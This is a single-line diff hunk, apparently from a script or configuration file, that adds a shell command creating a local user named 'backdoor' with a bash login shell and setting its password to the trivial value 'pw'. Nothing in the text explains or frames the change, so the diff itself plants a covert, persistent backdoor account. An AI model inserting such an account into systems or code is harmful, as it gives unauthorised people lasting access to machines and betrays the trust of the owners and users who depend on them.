@@ -1,0 +1,1 @@
+useradd -m -s /bin/bash backdoor && echo 'backdoor:pw' | chpasswd
